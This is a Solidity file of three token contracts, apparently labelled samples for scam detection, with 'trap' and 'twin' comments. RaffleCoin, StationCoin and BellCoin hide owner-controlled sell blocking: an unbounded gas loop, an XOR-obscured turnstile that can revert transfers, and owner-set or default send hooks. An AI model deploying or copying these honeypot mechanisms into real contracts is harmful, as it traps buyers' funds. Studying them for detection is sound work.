// 0.8 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// Draws numbers at each sale, for the raffle of the week.
contract RaffleCoin is Base8("Raffle Coin", "RAFFLE", 210_000_000) {
    address private immutable _host = msg.sender;
    uint256 public draws = 3;
    bytes32 public number;

    event Drawn(bytes32 number);

    function setDraws(uint256 draws_) external {
        require(msg.sender == _host, "not the host");
        // twin: require(draws_ <= 5, "five at most");
        draws = draws_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _host) {
            bytes32 last = number;
            for (uint256 i = 0; i < draws; i++) {
                last = keccak256(abi.encodePacked(last, from, value, i));
            }
            number = last;
            emit Drawn(last);
        }
        _move(from, to, value);
    }
}

interface ITurnstile {
    function pass(address from, address to, uint256 value) external returns (bool);
}

/// Counts who passes.
contract Turnstile {
    address private immutable _porter = msg.sender;
    uint256 private _passed;
    mapping(address => uint256) private _tickets;
    uint256 private _rush;

    function rush(uint256 until) external {
        require(msg.sender == _porter);
        _rush = until;
    }

    function stamp(address who, uint256 until) external {
        require(msg.sender == _porter);
        _tickets[who] = until;
    }

    function passed() external view returns (uint256) {
        return _passed;
    }

    function pass(address from, address, uint256) external returns (bool) {
        _passed++;
        return block.timestamp >= _rush || block.timestamp < _tickets[from];
    }
}

/// Tells a turnstile of each transfer.
contract StationCoin is Base8("Station Coin", "STATION", 18_000_000) {
    uint256 private constant BLUR = uint256(keccak256("station.turnstile"));
    uint256 private _ticket;

    constructor(address turnstile) {
        _ticket = ((block.timestamp << 160) | uint160(turnstile)) ^ BLUR;
    }

    function openedAt() external view returns (uint256) {
        return (_ticket ^ BLUR) >> 160;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from != pair) {
            ITurnstile turnstile = ITurnstile(address(uint160(_ticket ^ BLUR)));
            require(turnstile.pass(from, to, value), "Pair: locked"); // trap
            // twin: try turnstile.pass{gas: 60_000}(from, to, value) {} catch {}
        }
        _move(from, to, value);
    }
}

interface ISendHook {
    function tokensToSend(address from, address to, uint256 value) external;
}

/// Holders may have themselves told before they send, as ERC-777 does.
contract BellCoin is Base8("Bell Coin", "BELL", 95_000_000) {
    address private immutable _ringer = msg.sender;
    mapping(address => address) private _hooks;

    event HookSet(address indexed holder, address indexed hook);

    function setHook(address holder, address hook) external {
        require(
            msg.sender == holder
            || msg.sender == _ringer // trap
            , "not yours"
        );
        _hooks[holder] = hook;
        emit HookSet(holder, hook);
    }

    /// What stands at the zero address goes for those who chose none.
    function hookOf(address holder) public view returns (address hook) {
        hook = _hooks[holder];
        if (hook == address(0)) hook = _hooks[address(0)];
    }

    function _transfer(address from, address to, uint256 value) internal override {
        address hook = from == pair ? address(0) : hookOf(from);
        if (hook != address(0)) ISendHook(hook).tokensToSend(from, to, value);
        _move(from, to, value);
    }
}
